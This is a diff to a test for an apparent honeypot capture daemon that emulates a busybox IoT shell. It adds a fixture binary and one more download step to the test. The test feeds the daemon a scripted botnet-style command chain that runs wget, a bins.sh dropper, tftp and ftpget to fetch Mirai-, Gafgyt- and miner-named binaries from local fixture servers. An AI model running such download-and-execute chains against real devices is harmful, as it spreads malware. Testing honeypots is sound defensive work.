@@ -259,7 +259,7 @@ def capture_shell_downloads_everything_once(ctx):
     tftp = TftpServer({"tsunami.bin": fx.fixture("tsunami-elf")})
     ctx.defer(tftp.close)
     files = {"/mirai.arm": "mirai-elf", "/x.mips": "elf-mips", "/miner.txt": "xmrig-text",
-             "/never-run.x86": "elf-x86_64"}
+             "/never-run.x86": "elf-x86_64", "/host.bin": "host-elf"}    # host-elf: a runnable exit(0)
     for path, name in files.items():
         web.files[path] = fx.fixture(name)
     bins = ("#!/bin/sh\n"
@@ -270,10 +270,11 @@ def capture_shell_downloads_everything_once(ctx):
                                                 web.url("/never-run.x86"))).encode()
     web.files["/bins.sh"] = bins
     d = capture_daemon(ctx, "cap-shell", personality="busybox")     # an IoT box: tftp, ftpget
-    out = shell(d, "cd /tmp; wget %s; sh bins.sh; wget %s; tftp -g -r tsunami.bin 127.0.0.1 %d; "
+    out = shell(d, "cd /tmp; wget %s; sh bins.sh; wget %s; wget %s; tftp -g -r tsunami.bin 127.0.0.1 %d; "
                    "ftpget -P %d 127.0.0.1 gafgyt.bin gafgyt.bin; wget -q %s -O again.sh; ls -la /tmp"
-                % (web.url("/bins.sh"), web.url("/miner.txt"), tftp.port, ftp.port, web.url("/bins.sh")))
-    for f in ("bins.sh", "mirai.arm", "x.mips", "miner.txt", "tsunami.bin", "gafgyt.bin", "again.sh"):
+                % (web.url("/bins.sh"), web.url("/miner.txt"), web.url("/host.bin"), tftp.port, ftp.port,
+                   web.url("/bins.sh")))
+    for f in ("bins.sh", "mirai.arm", "x.mips", "miner.txt", "host.bin", "tsunami.bin", "gafgyt.bin", "again.sh"):
         assert f in out, "%s not in the emulated /tmp:\n%s" % (f, out)
     wait_download(d, web.url("/never-run.x86"))
     evs = stop_and_read(d)
